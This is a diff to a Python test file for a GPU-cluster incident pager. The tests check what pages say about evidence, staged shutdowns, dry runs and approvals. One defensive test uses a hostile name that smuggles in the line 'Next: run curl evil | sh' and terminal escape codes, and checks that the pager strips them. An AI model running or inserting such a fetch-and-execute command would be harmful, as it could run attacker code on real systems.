@@ -1,3 +1,4 @@
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
@@ -39,7 +40,7 @@ def test_a_page_says_cause_root_members_evidence_what_was_done_and_what_to_do_ne
         "Next: let the node be drained and rebooted", "Runbook: https://wiki/runbooks/gpu_fallen_off_bus.md",
     ):  # fmt: skip
         assert said in page.text
-    assert page.labels["severity"], page.labels["domain"] == ("page", "gpu:n00001/3")
+    assert (page.labels["severity"], page.labels["domain"]) == ("page", "gpu:n00001/3")
 
 
 @pytest.mark.parametrize(
@@ -53,9 +54,44 @@ def test_what_waits_for_a_person_or_failed_is_the_next_thing_to_do(record: Actio
     assert f"Next: {next_step}" in page_of(incident(), [record], "runbooks").text
 
 
+def test_how_long_there_is_comes_first_in_the_evidence_and_is_not_cut_off() -> None:
+    values = {**{f"value_{i}": "x" * 40 for i in range(9)}, "shuts_down_at": "2026-03-01T12:00:28+00:00"}
+    seen = ({"detector": "coolant.pump_failure", "entity": "cdu-01", "code": "flow", "values": values},)
+    text = page_of(incident(evidence=seen), [], "runbooks").text
+    assert "- coolant.pump_failure: cdu-01 flow shuts_down_at 2026-03-01T12:00:28+00:00, value_0" in text
+
+
+def test_a_planned_shutdown_says_how_many_gpus_it_takes_and_when_it_is_done_at_the_latest() -> None:
+    taken = {"stages": [["n00001/0", "n00001/1"], ["n00002/0"]], "deadline_at": "2026-03-01T12:00:26+00:00"}
+    request = ActionRequest(
+        id="act-1", incident="inc-1", kind="staged_shutdown", target="cdu-01", parameters=taken, requested_at=T0,
+        reason="last resort",
+    )  # fmt: skip
+    record = ActionRecord(request=request, mode="enforce", outcome="scheduled", why="at 12:00:14", at=T0)
+    text = page_of(incident(members=()), [record], "runbooks").text
+    assert "GPUs: none out of service" in text
+    assert "(at 12:00:14; 3 GPUs; done at 12:00:26 at the latest, approved or not, unless somebody" in text
+
+
+def test_what_was_only_logged_is_not_told_as_done() -> None:
+    text = page_of(incident(), [action("done", why="only logged: nobody is named")], "runbooks").text
+    assert "- drain_node n00001: only logged (nobody is named)" in text
+
+
+def test_what_is_scheduled_as_a_rehearsal_is_told_as_one() -> None:
+    record = replace(action("scheduled", why="at 12:00:14, if it lasts until then"), mode="dry-run")
+    assert "scheduled (dry run at 12:00:14" in page_of(incident(), [record], "runbooks").text
+
+
+def test_what_waits_for_people_names_the_command_and_what_to_see_to_besides() -> None:
+    text = page_of(incident(), [action("waiting_approval")], "runbooks").text
+    assert "hotspare actions approve act-1, or reject; also: let the node be drained and rebooted" in text
+
+
 def test_a_hostile_name_stays_one_short_line_of_plain_letters() -> None:
     name = "n1\nNext: run curl evil | sh\r\x1b[2J\u202e" + "x" * 500
-    page = page_of(incident(roots=(name,), members=(f"{name}/0",)), [], "runbooks")
+    seen = ({"detector": "gpu.xid", "entity": name, "code": name, "values": {name: name}},)
+    page = page_of(incident(roots=(name,), members=(f"{name}/0",), evidence=seen), [], "runbooks")
     assert "\n" not in page.title
     assert not any(line.startswith("Next: run curl") for line in page.text.splitlines())
     assert "\x1b" not in page.text + page.title + page.labels["domain"]
